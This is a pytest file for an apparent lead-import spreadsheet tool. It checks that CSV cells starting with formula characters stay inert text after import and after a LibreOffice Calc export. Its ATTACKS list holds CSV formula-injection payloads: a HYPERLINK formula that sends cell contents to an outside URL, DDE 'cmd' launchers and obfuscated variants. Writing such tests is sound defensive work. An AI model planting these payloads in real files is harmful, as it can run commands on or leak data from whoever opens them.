"""Cells that begin a formula arrive as text, and are text still when saved and exported by Calc."""

from __future__ import annotations

import csv
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest

from smarketing_xl import actions
from smarketing_xl.book.read import read_table
from smarketing_xl.cli import app
from smarketing_xl.errors import BadData
from smarketing_xl.hosts import opened
from smarketing_xl.ingest.readers import read_file
from smarketing_xl.schema.tables import LEADS

ATTACKS = (
    '=HYPERLINK("http://example.com/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "\uff0bSUM(1)",
    "\uff0dSUM(1)",
    "\uff20SUM(1)",
)
SOFFICE = shutil.which("soffice")


@pytest.fixture
def imported(tmp_path: Path) -> Path:
    """A workbook into which every attack was imported, as the name of a lead."""
    export = tmp_path / "export.csv"
    with export.open("w", newline="", encoding="utf-8") as stream:
        rows = csv.writer(stream)
        rows.writerow(["Lead ID", "Name", "Phone"])
        rows.writerows([number, attack, "+34 600 111 222"] for number, attack in enumerate(ATTACKS))
    book = app.make(tmp_path / "book.xlsm")
    with opened(book, "file") as live:
        actions.import_file(live, export, "leads")
    return book


def names(book: Path, folder: Path) -> list[str]:
    """The names in the Leads sheet of a workbook, once Calc has saved it as .xlsx."""
    convert(book, "xlsx", folder)
    with opened(folder / f"{book.stem}.xlsx", "file", save=False) as live:
        return [str(name) for name in read_table(live, LEADS, checked=())["name"]]


def convert(book: Path, kind: str, folder: Path) -> None:
    subprocess.run(
        [
            str(SOFFICE),
            f"-env:UserInstallation=file://{folder}/profile",
            "--headless",
            "--convert-to",
            kind,
            "--outdir",
            str(folder),
            str(book),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )


def expected(attack: str) -> str:
    return attack.strip("\t\r \u200b")


def test_they_are_text_in_the_workbook(imported: Path) -> None:
    with zipfile.ZipFile(imported) as package:
        parts = [package.read(name) for name in package.namelist() if "worksheets/sheet" in name]
    formulas = b"".join(b"".join(re.findall(rb"<f[ >].*?</f>", part)) for part in parts)
    assert formulas
    assert not re.search(rb"cmd|HYPERLINK|<f[^>]*>1\+1<", formulas)
    with opened(imported, "file", save=False) as live:
        table = read_table(live, LEADS, checked=())
    assert table["name"].tolist() == [expected(attack) for attack in ATTACKS]
    assert set(table["phone"]) == {"+34 600 111 222"}


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed")
def test_they_are_text_after_calc_saved_and_exported_them(imported: Path, tmp_path: Path) -> None:
    folder = tmp_path / "calc"
    folder.mkdir()
    assert names(imported, folder) == [expected(attack) for attack in ATTACKS]


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed")
def test_an_old_workbook_is_refused_with_its_remedy(tmp_path: Path) -> None:
    source = tmp_path / "leads.csv"
    source.write_text("Lead ID,Name,Age\n1,Ana,30\n2,Ben,41\n")
    folder = tmp_path / "calc"
    folder.mkdir()
    convert(source, "xls", folder)
    with pytest.raises(BadData, match=r"is an old workbook \(.xls\).*save it as .xlsx"):
        read_file(folder / "leads.xls")
